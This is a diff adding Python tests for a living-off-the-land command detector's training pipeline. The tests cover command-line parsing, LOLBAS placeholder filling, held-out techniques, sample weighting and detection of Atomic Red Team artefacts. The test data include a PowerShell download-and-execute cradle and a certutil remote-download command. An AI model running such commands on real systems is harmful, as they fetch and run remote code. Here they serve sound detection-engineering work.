@@ -1,0 +1,97 @@
+"""The training recipe's options: synthetic catalogue rows, Atomic test artefacts, hard benign validation rows."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from nightjar.detectors.lotl import benign as B
+from nightjar.detectors.lotl import data as D
+from nightjar.detectors.lotl import synthetic as S
+from nightjar.detectors.lotl import training as T
+from nightjar.errors import ConfigError
+
+KNOWN = {"reg.exe": "C:\\Windows\\System32\\", "rundll32.exe": "C:\\Windows\\System32\\", "certutil.exe": "C:\\Windows\\System32\\"}
+
+
+@pytest.mark.parametrize(("line", "expected"), [
+    ("reg add HKCU\\Software\\X /f", ("reg.exe", "C:\\Windows\\System32\\reg.exe")),
+    ('"C:\\Tools\\tool.exe" -a', ("tool.exe", "C:\\Tools\\tool.exe")),
+    ("echo hello > out.txt", None),  # cmd built-in
+    ("$x = Get-Item HKCU:\\Software", None),  # PowerShell variable
+    ("Get-Process", None),  # cmdlet
+    ("iex (New-Object Net.WebClient).DownloadString('http://x/a')", None),  # a word that names no known binary
+    ("script.vbs", None),  # opened through its handler
+])
+def test_program_a_line_starts(line: str, expected: tuple[str, str] | None) -> None:
+    assert S._program(line, KNOWN) == expected
+
+
+def test_lolbas_placeholders_are_filled_with_neutral_values() -> None:
+    cmd = "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}"
+    assert S._fill(cmd, key=2) == "certutil.exe -urlcache -f https://198.51.100.7/file.exe file.exe"
+    assert S._fill(cmd, key=1) == "certutil.exe -urlcache -f https://198.51.100.7/file.exe C:\\ProgramData\\file.exe"
+    assert S.PLACEHOLDER.search(S._fill("rundll32.exe {PATH_ABSOLUTE:.dll},Entry {GUID}", key=2)) is None
+
+
+def test_synthetic_rows_of_held_out_techniques_are_left_out() -> None:
+    rows = pd.DataFrame({"technique": ["T1105", "T1218.011", "T1003.001"], "label": [True] * 3})
+    kept = S.for_training(rows, {"T1218.011"})
+    assert kept["technique"].tolist() == ["T1105", "T1003.001"]
+
+
+def test_training_frame_weights_and_labels_synthetic_rows() -> None:
+    atomic = pd.DataFrame({"label": [True, False], "test_dir": ["t1", "t1"]})
+    admin = B.admin_events(B.ADMIN_TRAIN[:2])
+    synth = pd.DataFrame({"label": [True], "test_dir": ["art:x"]})
+    _, y, groups, weights = T.training_frame(atomic, admin, synth, synthetic_weight=0.5)
+    assert y.tolist() == [True, False, False, False, True]
+    assert weights.tolist() == [1.0, 1.0, T.ADMIN_WEIGHT, T.ADMIN_WEIGHT, 0.5]
+    assert groups[-1] == "art:x"
+
+
+def test_default_recipe_is_the_shipped_one() -> None:
+    assert T.RECIPE == T.Recipe(synthetic=(), synthetic_weight=1.0, admin_more=False, admin_validation=False, artefacts="keep")
+    assert T.admin_train() == B.ADMIN_TRAIN
+    val = pd.DataFrame({"label": [False]})
+    assert T.validation_frame(val) is val
+    assert len(T.validation_frame(val, T.Recipe(admin_validation=True))) == 1 + len(B.ADMIN_VALIDATION)
+
+
+def test_admin_sets_share_no_command() -> None:
+    sets = [B.ADMIN_TRAIN + B.ADMIN_TRAIN_MORE, B.ADMIN_HOLDOUT, B.ADMIN_VALIDATION]
+    commands = [{c for _, _, c in s} for s in sets]
+    assert not commands[0] & commands[1] and not commands[0] & commands[2] and not commands[1] & commands[2]
+
+
+def test_test_artefacts_marks_psexec_service_children_and_art_markers() -> None:
+    events = pd.DataFrame({
+        "process.name": ["PSEXESVC.exe", "cmd.exe", "whoami.exe", "svchost.exe", "powershell.exe"],
+        "process.command_line": ["C:\\Windows\\PSEXESVC.exe", '"cmd"', "whoami", "svchost.exe -k netsvcs",
+                                 "powershell -c \"write-host 'T1543.003 Test'\""],
+        "process.executable": ["C:\\Windows\\PSEXESVC.exe", "", "", "C:\\Windows\\System32\\svchost.exe", ""],
+        "process.parent.executable": ["", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\System32\\cmd.exe", "", ""],
+        "process.entity_id": ["a", "b", "c", "d", "e"],
+        "process.parent.entity_id": ["", "a", "b", "", ""],
+    })
+    assert D.test_artefacts(events).tolist() == [True, True, True, False, True]
+
+
+def test_load_atomic_rejects_an_unknown_artefacts_mode(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="'artefacts' parameter of load_atomic"):
+        D.load_atomic(tmp_path, artefacts="ignore")
+
+
+def test_catalogue_rows_from_the_shared_data(shared_data: Path) -> None:
+    from nightjar.detectors.lotl.attack import Knowledge
+
+    known = S.known_programs(Knowledge.from_catalogues(shared_data).locations)
+    rows = S.catalogue_events(shared_data, known)
+    assert rows["label"].all() and (rows["technique"] != "").all()
+    assert set(rows["test_dir"].str.split(":").str[0]) == {"art", "lolbas"}
+    assert rows["process.name"].str.endswith(".exe").all()
+    assert not rows["process.command_line"].str.contains("PathToAtomicsFolder|#\\{", regex=True).any()
+    assert np.isin(["cmd.exe", "powershell.exe", "reg.exe", "rundll32.exe"], rows["process.name"]).all()
